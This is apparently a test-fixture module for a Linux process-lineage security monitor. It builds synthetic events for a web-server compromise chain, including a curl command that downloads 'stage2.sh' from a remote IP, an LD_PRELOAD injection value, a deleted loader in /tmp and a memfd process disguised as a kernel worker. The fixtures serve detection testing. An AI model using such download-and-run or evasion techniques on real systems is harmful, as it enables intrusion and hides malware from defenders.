"""Processes made by hand, rich in what a document can hold, and the events that go with them. No tree, no kernel."""

from __future__ import annotations

from typing import Any

import orjson

from pipeline import wire
from pipeline.config import Config
from pipeline.containers import Container
from pipeline.counters import Counters
from pipeline.enrich import Describer
from pipeline.enrich.kernel_names import ALL_CAPABILITIES
from pipeline.events import (
    Account,
    Credentials,
    Exec,
    Exit,
    File,
    Fork,
    HostFacts,
    Loader,
    Namespaces,
    ProcessEvent,
    Script,
    Session,
    Stamp,
    Task,
)
from pipeline.events import Container as ContainerFact
from pipeline.process import Ancestor, Image, ProcessVersion, entity_id

BOOT_ID = bytes(range(16))
PID_NS = 4026531836
CONTAINER_NS = 4026532999
OFFSET_NS = 1_767_225_600_000_000_000  # boot at 2026-01-01T00:00:00Z
SECOND_NS = 10**9
PTS_0 = 136 << 20
FACTS: dict[str, Any] = {
    "host": {
        "name": "web-1",
        "hostname": "web-1.example.org",
        "id": "0123456789abcdef0123456789abcdef",
        "architecture": "x86_64",
        "ip": ["192.0.2.10", "2001:db8::10"],
        "mac": ["00-00-5E-00-53-01"],
        "os": {
            "type": "linux",
            "platform": "debian",
            "family": "debian",
            "name": "Debian GNU/Linux",
            "full": "Debian GNU/Linux 12 (bookworm)",
            "version": "12",
            "kernel": "6.1.0",
        },
    },
    "agent": {"type": "lineage", "version": "0.1.0", "id": "0f7c9ab1", "name": "web-1", "ephemeral_id": "9d0d5f4f"},
}
PATTERNS: list[str] = Config.model_fields["mask_patterns"].default

ALL = ALL_CAPABILITIES
ROOT = Credentials(0, 0, 0, 0, 0, 0, 0, 0, cap_permitted=ALL, cap_effective=ALL, cap_bounding=ALL)
WWW = Credentials(33, 33, 33, 33, 33, 33, 33, 33, groups=(33, 4), cap_bounding=ALL)
SUDO = Credentials(
    *(1000, 1000, 0, 0, 0, 0, 0, 0), groups=(27, 1000), cap_permitted=ALL, cap_effective=0xC0, cap_bounding=ALL
)
CONFINED = Credentials(
    *(101,) * 8, securebits=0b101111, cap_inheritable=1 << 10, cap_bounding=0xA80425FB, cap_ambient=1 << 10
)

SYSTEMD = Image("systemd", "/usr/lib/systemd/systemd", ("/sbin/init",))
NGINX = Image("nginx", "/usr/sbin/nginx", ("nginx", "-g", "daemon off;"))
BASH = Image("bash", "/usr/bin/bash", ("bash", "-i"))
CURL_FILE = File(1234567, 8 << 20 | 1, 0o100755, 1, 1_700_000_000_123_456_789, 1_700_000_001_000_000_000)
LOADER = Loader("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", CURL_FILE._replace(inode=4321))
CURL = Image(
    "curl", "/usr/bin/curl", ("curl", "http://203.0.113.50/stage2.sh", "-o", "/tmp/s"), file=CURL_FILE, loader=LOADER
)
SCRIPT = Image(
    "deploy",
    "/usr/bin/python3.11",
    ("/usr/bin/python3", "-E", "/opt/deploy", "--token=hunter2"),
    file=File(99, 253 << 20 | 3, 0o106755, 2, 0, -1, ("upper_layer", "setuid", "setgid", "script")),
    script=Script("/opt/deploy", "/usr/bin/python3", File(77, 253 << 20 | 3, 0o100755, 1, 3, 4, ("upper_layer",))),
    environment=("LD_PRELOAD=/tmp/x.so", "SUDO_USER=alice", "PYTHONSTARTUP=/tmp/a?password=hunter2"),
    loader=Loader("/tmp/.x/ld.so", File(78, 253 << 20 | 3, 0o100755, 0, 5, 6, ("deleted", "upper_layer"))),
)
MEMFD = Image("3", "memfd:x", ("[kworker/0:1]",), file=File(7, 1, 0o100777, 0, 5, 5, ("memfd",)))


def identity(pid: int, start_ns: int) -> str:
    return entity_id(BOOT_ID, PID_NS, pid, start_ns)


def ancestor(pid: int, image: Image, **fields: Any) -> Ancestor:
    """One that started ``pid`` seconds after the boot, in its own session."""
    start_ns = fields.pop("start_ns", pid * SECOND_NS)
    made = Ancestor(
        entity_id=identity(pid, start_ns),
        since_ns=start_ns,
        pid=pid,
        ns_pid=pid,
        start_ns=start_ns,
        image=image,
        working_directory="/",
        credentials=ROOT,
        session=Session(0, pid, pid, start_ns, start_ns),
        pid_ns=PID_NS,
    )
    return made._replace(**fields)


INIT = ancestor(1, SYSTEMD)
SERVER = ancestor(1234, NGINX, credentials=WWW, working_directory="/var/www")
SHELL = ancestor(
    5678,
    BASH,
    credentials=WWW,
    session=Session(PTS_0, SERVER.pid, 5678, SERVER.start_ns, 5678 * SECOND_NS),
    working_directory="/var/www",
)


def process(pid: int = 9012, image: Image = CURL, **fields: Any) -> ProcessVersion:
    """``systemd → nginx → bash → curl`` of the web server, unless told otherwise."""
    start_ns = fields.pop("start_ns", 10_000 * SECOND_NS + 123_456_789)
    ancestors = fields.pop("ancestors", (SHELL, SERVER, INIT))
    made = ProcessVersion(
        entity_id=identity(pid, start_ns),
        since_ns=start_ns + 1_000_000,
        pid=pid,
        ns_pid=pid,
        pid_ns=PID_NS,
        start_ns=start_ns,
        image=image,
        previous=(),
        cut=(),
        working_directory="/var/www",
        credentials=WWW,
        session=Session(0, SERVER.pid, SHELL.pid, SERVER.start_ns, SHELL.start_ns),
        thread_name=image.name[:15],
        tid=pid,
        cgroup_id=42,
        container=None,
        namespaces=Namespaces(1, 1, 1),
        sockets=0,
        kernel_thread=False,
        filtered=False,
        ancestors=ancestors,
        depth=len(ancestors),
        complete=True,
        named_parent=None,
        doubt=(),
        reaper=None,
        group_leader=SHELL,
        session_leader=SERVER,
        entry_leader=SERVER,
        entry_type="init",
        boot_pid_ns=PID_NS,
        exit_status=None,
        end_ns=None,
    )
    return made._replace(**fields)


def task(of: ProcessVersion) -> Task:
    return Task(
        pid=of.pid,
        tid=of.tid,
        start_ns=of.start_ns,
        thread_start_ns=of.start_ns,
        parent_pid=of.parent.pid if of.parent else 0,
        ns_pid=of.ns_pid,
        parent_start_ns=of.parent.start_ns if of.parent else 0,
        ns_tid=of.ns_pid,
        pid_ns=of.pid_ns,
        namespaces=Namespaces(1, 1, 1),
        session=of.session,
        cgroup_id=of.cgroup_id,
        exec_id=1,
        credentials=of.credentials._replace(groups=()),
        comm=of.thread_name,
    )


def forked(of: ProcessVersion) -> Fork:
    parent = of.parent
    birth = (parent.pid, parent.pid, parent.start_ns) if parent else (0, 0, 0)
    return Fork(Stamp(of.start_ns + 500, 1, 7, wire.FORK), task(of), *birth, of.kernel_thread)


def executed(of: ProcessVersion) -> Exec:
    return Exec(
        stamp=Stamp(of.since_ns, 1, 8, wire.EXEC),
        task=task(of),
        old_tid=of.pid,
        filename=of.image.executable,
        executable=of.image.executable,
        working_directory=of.working_directory,
        args=of.image.args,
        args_total_bytes=sum(len(arg.encode()) + 1 for arg in of.image.args),
        groups=of.credentials.groups,
        file=of.image.file,
        sockets=of.sockets,
        cut=of.image.cut,
        script=of.image.script,
        environment=of.image.environment,
        filtered=of.filtered,
    )


def ended(of: ProcessVersion, status: int = 0, *, core_dumped: bool = False) -> Exit:
    stamp = Stamp(of.start_ns + 2 * SECOND_NS, 0, 9, wire.EXIT)
    return Exit(stamp, task(of), status, core_dumped, cpu_ns=1_234_567, memory_peak_bytes=3 << 20)


def describer(counters: Counters | None = None, patterns: list[str] | None = None) -> Describer:
    """One that knows the host and its accounts."""
    made = Describer("default", PATTERNS if patterns is None else patterns, counters or Counters())
    made.learn(HostFacts(Stamp(1, 0, 0, wire.HOST), BOOT_ID, OFFSET_NS, PID_NS, FACTS))
    for number, name in ((0, "root"), (33, "www-data"), (1000, "alice")):
        made.learn(Account(Stamp(2, 0, number, wire.ACCOUNT), False, number, name))
        made.learn(Account(Stamp(2, 0, number, wire.ACCOUNT), True, number, name))
    return made


def contained(facts: dict[str, Any], container_id: str = "") -> ContainerFact:
    """What a runtime says of IN_CONTAINER's container, or of another one."""
    return ContainerFact(Stamp(3, 0, 0, wire.CONTAINER), container_id or WEB.id, facts)


def told(event: ProcessEvent, of: ProcessVersion, by: Describer | None = None) -> dict[str, Any]:
    """The document as a value; there is one."""
    document = (by or describer()).describe(event, of)
    assert document is not None
    parsed: dict[str, Any] = orjson.loads(document.body)
    return parsed


WEB = Container("0123456789abcdef" * 4, "")
WEB_FACTS: dict[str, Any] = {
    "container": {
        "id": WEB.id,
        "name": "web",
        "runtime": "containerd",
        "image": {
            "name": "registry.example.org:5000/team/web",
            "tag": ["1.2"],
            "hash": {"all": ["sha256:" + "ab" * 32]},
        },
    },
    "orchestrator": {
        "type": "kubernetes",
        "namespace": "shop",
        "resource": {"type": "pod", "name": "web-7d4b9", "id": "5b0f3c1e-0000-4000-8000-000000000001"},
    },
}
KERNEL_THREAD = process(
    77,
    Image("kworker/0:1", "", ()),
    start_ns=77 * SECOND_NS,
    working_directory="",
    credentials=ROOT,
    session=Session(),
    kernel_thread=True,
    ancestors=(ancestor(2, Image("kthreadd", "", ()), working_directory="", session=Session()),),
    group_leader=None,
    session_leader=None,
    entry_leader=None,
    entry_type="",
)
ORPHAN = process(
    300,
    BASH,
    ancestors=(),
    complete=False,
    doubt=("loss", "unknown_parent"),
    reaper=INIT,
    group_leader=None,
    session_leader=None,
    session=Session(0, SERVER.pid, SHELL.pid, 0, SHELL.start_ns),
    entry_leader=None,
    entry_type="",
)
IN_CONTAINER = process(
    9100,
    BASH,
    ns_pid=12,
    pid_ns=CONTAINER_NS,
    credentials=SUDO,
    container=WEB,
    ancestors=(ancestor(9000, NGINX, ns_pid=1, pid_ns=CONTAINER_NS, credentials=WWW), INIT),
)
GONE = process(9300, MEMFD, credentials=CONFINED, end_ns=20_000 * SECOND_NS, doubt=("cut",))
INTERACTIVE = process(
    9200,
    Image("python3", "/usr/bin/python3.11", ("python3", "-c", "pass")),
    credentials=SUDO,
    session=Session(PTS_0 | 3, SERVER.pid, SHELL.pid, SERVER.start_ns, SHELL.start_ns),
    tid=9205,
    thread_name="worker",
    sockets=7,
    previous=(Image("env", "/usr/bin/env", ("env", "python3")), SYSTEMD),
    doubt=("snapshot",),
    reaper=INIT,
)
OWN_LEADER = process(
    SHELL.pid,
    BASH,
    start_ns=SHELL.start_ns,
    session=Session(PTS_0, SHELL.pid, SHELL.pid, SERVER.start_ns, SHELL.start_ns),
    ancestors=(SERVER, INIT),
    session_leader=SHELL,
    entry_leader=SHELL,
    entry_type="terminal",
)
FIRST = process(
    1, SYSTEMD, start_ns=SECOND_NS, credentials=ROOT, ancestors=(), group_leader=INIT, session_leader=INIT
)._replace(entry_leader=None, entry_type="", session=Session(0, 1, 1, SERVER.start_ns, SHELL.start_ns))


def every_document() -> dict[str, dict[str, Any]]:
    """One of each kind, and of each kind of process."""
    by = describer()
    by.learn(contained(WEB_FACTS))
    return {
        "fork": told(forked(process(image=BASH)), process(image=BASH), by),
        "exec": told(executed(process()), process(), by),
        "end": told(ended(process()), process(), by),
        "killed": told(ended(INTERACTIVE, 139, core_dumped=True), INTERACTIVE, by),
        "interactive": told(executed(INTERACTIVE), INTERACTIVE, by),
        "container": told(executed(IN_CONTAINER), IN_CONTAINER, by),
        "script": told(executed(process(image=SCRIPT)), process(image=SCRIPT), by),
        "confined": told(executed(GONE), GONE, by),
        "gone": orjson.loads(by.describe_gone(GONE).body),
        "orphan": told(executed(ORPHAN), ORPHAN, by),
        "own_leader": told(forked(OWN_LEADER), OWN_LEADER, by),
        "kernel_thread": told(forked(KERNEL_THREAD), KERNEL_THREAD, by),
        "running": orjson.loads(by.describe_running(process()).body),
        "first": orjson.loads(by.describe_running(FIRST).body),
    }
